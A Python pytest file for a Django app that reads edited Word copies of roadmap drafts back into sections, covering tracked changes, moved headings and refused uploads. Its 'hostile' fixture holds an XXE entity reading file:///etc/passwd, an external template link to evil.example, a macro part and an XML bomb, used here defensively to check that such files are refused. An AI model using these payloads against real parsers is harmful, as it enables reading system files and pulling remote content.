"""A Word copy is read back into its sections, whatever Word and its users did to it."""

import io

import docx
import pytest
from docx.oxml.ns import qn

from core.richtree import canonical
from roadmaps.copies.parts import CopyRefused
from tests.core.test_richtree import RICH
from tests.roadmaps.copies.making import (
    changed,
    plain_word,
    read,
    sections_of,
    texts,
    with_part,
    word_copy,
    write_text,
)
from tests.roadmaps.documents.writing import filled

pytestmark = pytest.mark.django_db


@pytest.fixture
def file(draft):
    """The Word copy of a draft with texts in three sections."""
    write_text(
        draft, situation=RICH, vision="<p>Our vision is clear.</p>", actors="<p>رؤية كينيا 2017</p>"
    )
    return word_copy(filled(draft, situation=RICH))


def test_what_nobody_changed_reads_as_it_was_written(draft, file, tmp_path):
    copy = read(file, tmp_path)

    assert copy.draft == draft.pk
    assert not copy.is_proposal
    stored = {s.template.code: (canonical(s.body), s.version) for s in sections_of(draft)}
    assert {p.code: (p.body, p.version) for p in copy.parts} == stored
    assert all(not part.dropped for part in copy.parts)


# The paragraph of the heading of "vision", up to its mark.
HEADING = r'<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr>(?:(?!</w:p>).)*ssc_vision_2'
NESTED = [
    "<ol><li>a</li><li>b<ul><li>c<ol><li>d</li></ol></li></ul></li><li>e</li></ol>",
    "<ul><li>a<p>more of a</p></li><li>b</li></ul><p>after</p><ul><li>c</li></ul>",
    "<h3>A</h3><h4>B</h4><blockquote><p>q</p><p>r</p></blockquote><p>x<br>y</p>",
    "<table><tbody><tr><td>a<ul><li>b</li></ul></td><td></td></tr></tbody></table>",
    '<p><a href="mailto:a@example.org">a <strong>b</strong></a> “smart” – 1 &lt; 2 &amp; c</p>',
    "<p>  spaces   stay  one </p><ul><li>x</li></ul><ol><li>y</li></ol>",
]


@pytest.mark.parametrize("body", NESTED)
def test_every_structure_survives(draft, tmp_path, body):
    write_text(draft, situation=body)

    assert texts(read(word_copy(draft), tmp_path))["situation"] == canonical(body)


def test_words_typed_into_the_copy_arrive_in_their_section(file, tmp_path):
    typed = changed(file, ("Our vision is clear.", "Our vision is “bright”."))

    assert texts(read(typed, tmp_path))["vision"] == "<p>Our vision is “bright”.</p>"


def test_split_runs_and_spelling_marks_of_word_are_one_text(file, tmp_path):
    pieces = (
        'Our vis</w:t></w:r><w:proofErr w:type="spellStart"/><w:r w:rsidR="00AA"><w:t>ion is clear.'
    )

    assert texts(read(changed(file, ("Our vision is clear.", pieces)), tmp_path))["vision"] == (
        "<p>Our vision is clear.</p>"
    )


def test_tracked_changes_count_as_accepted_and_are_said(file, tmp_path):
    tracked = (
        'Our </w:t></w:r><w:del w:id="9" w:author="A"><w:r><w:delText>old </w:delText></w:r>'
        "</w:del>"
        '<w:ins w:id="10" w:author="A"><w:r><w:t>new </w:t></w:r></w:ins><w:r><w:t>vision'
    )

    copy = read(changed(file, ("Our vision", tracked)), tmp_path)

    part = next(part for part in copy.parts if part.code == "vision")
    assert part.body == "<p>Our new vision is clear.</p>"
    assert part.dropped == {"changes": 2}


def test_a_deleted_end_of_paragraph_joins_the_two(draft, tmp_path):
    write_text(draft, vision="<p>One</p><p>two</p>")
    file = word_copy(draft)
    plain = r'<w:pPr><w:pStyle w:val="Normal"/></w:pPr>'
    before = r'(?=<w:r><w:rPr><w:lang w:val="en-GB"/></w:rPr><w:t xml:space="preserve">One)'
    deleted = '<w:pPr><w:rPr><w:del w:id="1" w:author="A"/></w:rPr></w:pPr>'
    joined = changed(file, (plain + before, deleted))

    assert texts(read(joined, tmp_path))["vision"] == "<p>Onetwo</p>"


def test_comments_pictures_and_looks_are_left_out_and_said(file, tmp_path):
    more = (
        'is clear.</w:t></w:r><w:r><w:commentReference w:id="1"/></w:r><w:r><w:drawing/></w:r>'
        '<w:r><w:rPr><w:u w:val="single"/></w:rPr><w:t> Yes.</w:t></w:r>'
        '<w:r><w:footnoteReference w:id="2"/></w:r><w:r><w:t>'
    )

    copy = read(changed(file, (r"is clear\.", more)), tmp_path)

    part = next(part for part in copy.parts if part.code == "vision")
    assert part.body == "<p>Our vision is clear. Yes.</p>"
    assert part.dropped == {"comments": 1, "pictures": 1, "looks": 1, "notes": 1}


def test_a_deleted_heading_does_not_lose_its_text(file, tmp_path):
    heading = HEADING + r"(?:(?!</w:p>).)*</w:p>"

    assert texts(read(changed(file, (heading, "")), tmp_path))["vision"] == (
        "<p>Our vision is clear.</p>"
    )


def test_a_text_typed_over_as_a_whole_is_found_by_its_heading(file, tmp_path):
    around = r'<w:bookmarkStart [^>]*w:name="sst_vision_2"/>'

    assert texts(read(changed(file, (around, "")), tmp_path))["vision"] == (
        "<p>Our vision is clear.</p>"
    )


def test_a_section_moved_up_keeps_its_text(draft, file, tmp_path):

    document = docx.Document(io.BytesIO(file))
    starts = document.element.body.iter(qn("w:bookmarkStart"))
    names = {start.get(qn("w:name")): start for start in starts}
    vision, situation = names["ssc_vision_2"].getparent(), names["ssc_situation_2"].getparent()
    moved = [vision]
    while moved[-1].getnext() is not names["ssc_actors_2"].getparent():
        moved.append(moved[-1].getnext())
    for block in moved:
        situation.addprevious(block)
    out = io.BytesIO()
    document.save(out)

    assert texts(read(out.getvalue(), tmp_path)) == texts(read(file, tmp_path))


def test_a_section_deleted_with_its_heading_is_not_in_the_copy(file, tmp_path):
    block = HEADING + r".*?sst_vision_2.*?<w:bookmarkEnd [^>]*/>(?=<w:p>)"

    assert "vision" not in texts(read(changed(file, (block, "")), tmp_path))


def test_tables_of_the_reference_part_are_not_read(file, tmp_path):
    assert "Chamber of Commerce" not in "".join(texts(read(file, tmp_path)).values())


def test_what_was_written_where_it_is_only_read_is_said(file, tmp_path):
    written = changed(file, ("Chamber of Commerce", "Chamber of Mines"))

    assert not read(file, tmp_path).is_written_elsewhere
    assert not read(changed(file, ("clear", "bright")), tmp_path).is_written_elsewhere
    assert read(written, tmp_path).is_written_elsewhere


def test_a_file_of_others_with_our_headings_is_a_proposal(draft, tmp_path):
    file = plain_word(
        ("Title", "Roadmap"), ("Heading 2", "VISION"), ("Normal", "Seen."),
        ("Heading 3", "More"), ("List Bullet", "one"), ("Heading 2", "Budget"), ("Normal", "x"),
    )  # fmt: skip

    copy = read(file, tmp_path)

    assert copy.is_proposal
    assert texts(copy) == {"vision": "<p>Seen.</p><h4>More</h4><ul><li>one</li></ul>"}
    assert copy.parts[0].version is None


def test_a_file_of_others_is_refused_with_what_to_do(draft, tmp_path):
    with pytest.raises(CopyRefused, match="Paste its text"):
        read(plain_word(("Heading 1", "Minutes"), ("Normal", "We met.")), tmp_path)


def test_the_document_of_a_revision_is_not_brought_back(draft, file, tmp_path):
    revision = changed(file, (f">{draft.pk}<", ">revision<"), part="docProps/custom.xml")

    with pytest.raises(CopyRefused, match="of a revision"):
        read(revision, tmp_path)


RELATION = (
    '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
)


def hostile(file):
    """Files that are refused, by the words that say why."""
    rels = "word/_rels/document.xml.rels"
    xxe = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    linked = changed(file, ("</Relationships>", RELATION + "</Relationships>"), part=rels)
    bomb = with_part(file, "word/big.xml", b"<a/>" * 4_000_000)
    return {
        "macros": ("copy.docx", with_part(file, "word/vbaProject.bin", b"x")),
        "takes pictures": ("copy.docx", linked),
        "damaged": ("copy.docx", changed(file, ("<w:document ", xxe + "<w:document "))),
        "more than can be read": ("copy.docx", bomb),
        "Save as": ("copy.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        "is neither": ("copy.exe", file),
        "not what its name says": ("copy.docx", b"%PDF-1.7 and more"),
        "empty": ("copy.docx", b""),
    }


@pytest.mark.parametrize(
    "words",
    [
        "macros", "takes pictures", "damaged", "more than can be read", "Save as", "is neither",
        "not what its name says", "empty",
    ],
)  # fmt: skip
def test_a_hostile_file_is_refused_in_words(file, tmp_path, words):
    name, data = hostile(file)[words]

    with pytest.raises(CopyRefused, match=words):
        read(data, tmp_path, name)


@pytest.mark.parametrize("share", [0.1, 0.5, 0.9, 0.999])
def test_a_file_cut_short_is_damaged(file, tmp_path, share):
    with pytest.raises(CopyRefused, match="damaged"):
        read(file[: int(len(file) * share)], tmp_path)


def test_a_text_longer_than_a_section_may_be_is_named(draft, tmp_path):
    write_text(draft, vision="<p>" + "word " * 41_000 + "</p>")

    with pytest.raises(CopyRefused, match="“vision”: Shorten the text: .* at most 200000"):
        read(word_copy(draft), tmp_path)
